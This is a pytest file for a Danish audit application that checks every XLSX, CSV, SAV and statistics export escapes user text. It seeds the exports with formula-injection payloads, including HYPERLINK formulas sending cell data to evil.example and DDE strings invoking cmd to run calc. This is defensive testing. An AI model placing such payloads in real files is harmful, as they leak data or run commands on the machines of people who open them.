"""One escaping rule for every export (issue 12): text a person typed or a file supplied is
written as text, whichever writer. Every export kind the tool has is written from one audit
whose user text is hostile where user text lands (a free-text answer, a note, a remark and
the auditor's reply, person ids from the register, a replacement reason, the audit's name,
labels of the instrument file), then reopened: no formula cell in any XLSX (and the hostile
text is there, as text), no CSV field that a spreadsheet would start as a formula (and the
neutralised text is there), SAV strings are string variables holding the exact text."""
from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from sqlmodel import Session, select

from audit import csvio, resources
from audit.models import Audit, Case, Person, Remark

NAME = '=HYPERLINK("http://evil.example/?n","Revision 2022")'       # the audit's name, typed by an admin
FREE_TEXT = '=HYPERLINK("http://evil.example/?q="&A1,"klik")'       # a free-text answer
NOTE = "@SUM(A1:A9) note"                                            # an auditor's note on an answer
REMARK = '=HYPERLINK("http://evil.example/remark","Se sagen")'      # the municipality's remark
REPLY = "-2+3 fastholdt"                                             # the auditor's reply
REASON = "flyttet,=cmd|' /C calc'!A0"                                # a replacement reason with a comma in it
PERSON_IDS = ["=cmd|' /C calc'!A0", "+1+1", "@SUM(1+1)", "\tP4", "-5+5"]  # ids a register may carry
LABEL = '=HYPERLINK("http://evil.example/label","Retning")'         # a question label in the instrument file
CHOICE = "+Jobrettet indsats"                                        # a choice label in the instrument file
HOSTILE = [NAME, FREE_TEXT, NOTE, REMARK, REPLY, REASON, *PERSON_IDS, LABEL, CHOICE]
SOON = datetime.now(timezone.utc) + timedelta(days=14)


def _hostile_instrument(tmp_path: Path):  # type: ignore[no-untyped-def]
    """The real instrument file with a question label and a choice label an author could write."""
    from audit.instrument import load_instrument

    text = resources.questionnaire().read_text(encoding="utf-8")
    text = text.replace("label_da: Hvilken retning har indsatsen for borgeren pr. 1. marts 2020?",
                        "label_da: '" + LABEL.replace("'", "''") + "'", 1)
    text = text.replace("{code: jobrettet, da: Jobrettet indsats mod det ordinære arbejdsmarked,",
                        "{code: jobrettet, da: '" + CHOICE + "',", 1)
    path = tmp_path / "hostile.yaml"
    path.write_text(text, encoding="utf-8")
    inst = load_instrument(path)
    assert inst.item("direction").label_da == LABEL
    return path, inst


def _build(engine, make_user, tmp_path: Path) -> tuple[int, Path]:  # type: ignore[no-untyped-def]
    """The hearing world with hostile text everywhere a person or a file puts text, locked."""
    import audit.review.instrument as ri
    from audit.hearing.lock import lock_audit
    from audit.hearing.remarks import respond, save_draft, submit
    from audit.hearing.rounds import close_round, open_round
    from audit.review.answers import set_answer
    from tests.hearing.world import make_world

    ri.clear_cache()
    world = make_world(engine, make_user, name=NAME)
    path, inst = _hostile_instrument(tmp_path)
    with Session(engine) as s:
        audit = s.get(Audit, world.audit_id)
        audit.instrument_version = inst.version
        audit.instrument_json = json.dumps(inst.to_dict(), ensure_ascii=False)
        s.add(audit)
        s.flush()
        case = s.get(Case, world.odense[0])
        set_answer(s, case=case, item="challenges", value=["fysiske", "andet"], user=world.auditor, instrument=inst)
        set_answer(s, case=case, item="challenges_other_text", value=FREE_TEXT, user=world.auditor,
                   instrument=inst)
        set_answer(s, case=case, item="direction", value="jobrettet", note=NOTE, user=world.auditor,
                   instrument=inst)
        # person ids as a register may deliver them (refusing them at import is the importer's job)
        for person_id, other in zip(PERSON_IDS, world.odense + world.kbh):
            person = s.get(Person, s.get(Case, other).person_pk)
            person.person_id = person_id
            s.add(person)
        rnd = open_round(s, audit, ["Odense"], SOON, world.admin)
        remark = save_draft(s, case=case, user=world.odense_user, item="plan_job_goal_concrete", text=REMARK,
                            proposed_value="ja")
        submit(s, rnd, "Odense", world.odense_user)
        respond(s, remark, "maintained", REPLY, world.auditor)
        close_round(s, rnd, world.admin)
        s.commit()
        # a replaced case with its reason (the sampling room's replace needs reserves; the field is what counts)
        aarhus = s.get(Case, world.aarhus[0])
        aarhus.active, aarhus.replaced_by_case_id, aarhus.replacement_reason = False, world.kbh[1], REASON
        s.add(aarhus)
        s.commit()
        lock_audit(s, s.get(Audit, world.audit_id), world.admin, force=True)
        s.commit()
        assert s.exec(select(Remark)).one().response == REPLY
    return world.audit_id, path


# ---------------------------------------------------------------- checks

def _xlsx(data: bytes, kind: str) -> set[str]:
    """Every cell of every sheet: never a formula; formula-like text carries Excel's quote prefix."""
    wb = load_workbook(io.BytesIO(data))
    texts = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{kind}: {ws.title}!{c.coordinate} is a formula: {c.value!r}"
                if isinstance(c.value, str):
                    texts.add(c.value)
                    if c.value[:1] in ("=", "+", "-", "@"):
                        assert c.quotePrefix, f"{kind}: {ws.title}!{c.coordinate} {c.value!r} lacks the quote prefix"
    return texts


def _number(field: str) -> bool:
    try:
        float(field.replace(",", "."))
        return True
    except ValueError:
        return False


def _csv(text: str, delimiter: str, kind: str) -> set[str]:
    """Every field as a spreadsheet splits the file: none starts like a formula (numbers aside)."""
    fields = set()
    for line_no, row in enumerate(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter), start=1):
        for field in row:
            fields.add(field)
            if field.startswith(csvio.FORMULA_START):
                assert field[:1] in "+-" and _number(field), f"{kind}, line {line_no}: live field {field!r}"
    return fields


def _neutral(text: str) -> str:
    return csvio.neutralize(text)


def _has(found: set[str], wanted: str, kind: str) -> None:
    assert any(wanted in f for f in found), f"{kind}: {wanted!r} is not in the file at all"


@pytest.mark.danish  # the workbooks in the default language, whose labels the test makes hostile
def test_every_export_writes_user_text_as_text(engine, make_user, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    pyreadstat = pytest.importorskip("pyreadstat")
    from audit.cli import main
    from audit.exports.service import load_audit_data, render_bytes
    from audit.hearing.workbooks import feedback_workbook, hearing_workbook
    from audit.instrument import load_instrument
    from audit.instrument.codebook import write_codebook
    from audit.review.sheets import export_sheet
    from audit.sampling.protocol import export_sample
    from audit.statistics.crosstabs import crosstab
    from audit.statistics.tables import Table

    audit_id, instrument_file = _build(engine, make_user, tmp_path)
    with Session(engine) as s:
        audit = s.get(Audit, audit_id)
        hearing = hearing_workbook(s, audit, "Odense", actor=None)
        feedback = feedback_workbook(s, audit, "Odense", actor=None)
        sample_path = tmp_path / "sample.csv"
        protocol_path = export_sample(s, audit, sample_path, actor=None)
        export_sheet(s, audit, tmp_path / "answers.xlsx", actor=None)
        export_sheet(s, audit, tmp_path / "answers.csv", actor=None)
        data = load_audit_data(s, audit_id, with_population=True, actor=None, purpose="annex.xlsx")
    files = {kind: render_bytes(kind, data)[0] for kind in ("annex.xlsx", "data.xlsx", "data.csv", "data.sav",
                                                             "codebook.csv")}
    write_codebook(load_instrument(instrument_file), tmp_path / "codebook.xlsx")

    # XLSX: hearing workbook (remark, reply, note, labels), feedback, annex, raw data, review sheet, codebook
    wb_hearing = _xlsx(hearing, "hearing.xlsx")
    for wanted in (REMARK, REPLY, NOTE, LABEL, CHOICE):
        _has(wb_hearing, wanted, "hearing.xlsx")
    bem = load_workbook(io.BytesIO(hearing)).worksheets[1]  # the remarks
    assert bem["E4"].value == REMARK and bem["E4"].data_type == "s" and bem["I4"].value == REPLY
    _has(_xlsx(feedback, "feedback.xlsx"), NAME, "feedback.xlsx")
    _has(_xlsx(files["annex.xlsx"], "annex.xlsx"), CHOICE, "annex.xlsx")
    raw = _xlsx(files["data.xlsx"], "data.xlsx")
    _has(raw, FREE_TEXT, "data.xlsx")
    _has(raw, LABEL, "data.xlsx codebook sheet")
    _has(_xlsx((tmp_path / "answers.xlsx").read_bytes(), "answers.xlsx"), FREE_TEXT, "answers.xlsx")
    sheets = _xlsx((tmp_path / "codebook.xlsx").read_bytes(), "instrument codebook")
    _has(sheets, LABEL, "instrument codebook")
    _has(sheets, CHOICE, "instrument codebook")

    # CSV for people (;) and for scripts (,)
    data_csv = _csv(files["data.csv"].decode("utf-8-sig"), ";", "data.csv")
    assert _neutral(FREE_TEXT) in data_csv
    assert _neutral(LABEL) in _csv(files["codebook.csv"].decode("utf-8-sig"), ";", "codebook.csv")
    answers = _csv((tmp_path / "answers.csv").read_text(encoding="utf-8-sig"), ";", "answers.csv")
    assert _neutral(FREE_TEXT) in answers
    sample = _csv(sample_path.read_text(encoding="utf-8"), ",", "sample.csv")
    for person_id in PERSON_IDS:
        assert _neutral(person_id) in sample, person_id
    protocol = protocol_path.read_text(encoding="utf-8")
    _csv(protocol, ",", "sample.protocol.csv")  # the `# key: value` lines too, split at every comma
    comment = next(line for line in protocol.splitlines() if line.startswith("# replacements:"))
    assert json.loads(comment.split(": ", 1)[1])[0]["replacement_reason"] == REASON
    assert json.loads(next(line for line in protocol.splitlines() if line.startswith("# audit:"))
                      .split(": ", 1)[1]) == NAME

    # statistics CSV: a table over the free-text item, as the room writes it and as the CLI prints it
    with Session(engine) as s:
        from audit.statistics.dataset import load_case_frame

        frame = load_case_frame(s, NAME)
    table: Table = crosstab(frame, "challenges_other_text", "municipality")
    assert _neutral(FREE_TEXT) in _csv(table.to_csv(), ",", "Table.to_csv")
    printed = CliRunner().invoke(main, ["stats", "crosstab", "--audit", NAME, "--row", "challenges_other_text",
                                        "--col", "municipality", "--format", "csv", "--no-suppress"])
    assert printed.exit_code == 0, printed.output
    assert _neutral(FREE_TEXT) in _csv(printed.output, ",", "audit stats crosstab --format csv")

    # SAV: the free text stays a string variable with the exact text
    sav = tmp_path / "data.sav"
    sav.write_bytes(files["data.sav"])
    df, meta = pyreadstat.read_sav(str(sav))
    assert meta.readstat_variable_types["challenges_other_text"] == "string"
    assert FREE_TEXT in set(df["challenges_other_text"])
